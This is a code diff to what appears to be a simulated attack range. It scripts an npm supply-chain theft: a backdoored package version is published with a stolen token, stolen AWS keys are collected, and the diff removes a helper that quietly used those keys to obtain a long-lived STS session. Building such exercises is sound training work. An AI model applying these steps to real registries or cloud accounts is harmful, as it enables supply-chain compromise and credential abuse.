@@ -13,7 +13,6 @@ from typing import TYPE_CHECKING, Any
 from urllib.parse import quote
 
 import requests
-from botocore.exceptions import ClientError
 from starlette.applications import Starlette
 from starlette.requests import Request
 from starlette.responses import JSONResponse
@@ -92,7 +91,7 @@ class NpmTheft:
         manifest = {"name": PACKAGE, "version": BAD, "license": "MIT"}
         code = self._npm("PUT", f"/{quote(PACKAGE, safe='@')}", release(manifest, {"index.js": BACKDOOR}))
         acts.append({"act": "npm:Publish", "ok": not code, "code": code, "made": f"{PACKAGE}@{BAD}"})
-        acts += self._use_key(Loot(taken["AWS_ACCESS_KEY_ID"], taken["AWS_SECRET_ACCESS_KEY"]))
+        acts.append(self._attacker.saves(Loot(taken["AWS_ACCESS_KEY_ID"], taken["AWS_SECRET_ACCESS_KEY"])))
         self._range.clock.advance(UNNOTICED_S)
         registry = self._range.npm
         count = registry.downloads(registry.packages[PACKAGE])[BAD]
@@ -120,19 +119,6 @@ class NpmTheft:
             raise InputError(f"npm refuses the stolen token already: {code}")
         said = f"Two hours later there is {PACKAGE}@{LATER}. Nobody released that one either"
         return {"story": [f"{said}, and whoever installs without a lock file gets it."]}
-
-    def _use_key(self, key: Loot) -> list[dict[str, Any]]:
-        """Save a session for later; nothing that would draw attention."""
-        self._attacker.loot = {"key": key}
-        code = ""
-        try:
-            found = self._attacker.client("sts", key).get_session_token(DurationSeconds=129600)["Credentials"]
-            self._attacker.loot["saved-session"] = Loot(
-                found["AccessKeyId"], found["SecretAccessKey"], found["SessionToken"]
-            )
-        except ClientError as exc:
-            code = str(exc.response["Error"]["Code"])
-        return [{"act": "sts:GetSessionToken", "ok": not code, "code": code, "made": "ferry-ci"}]
 
     def _npm(self, method: str, path: str, body: Any = None) -> str:
         """What the registry says to the stolen token: a code, or '' when it lets it pass."""
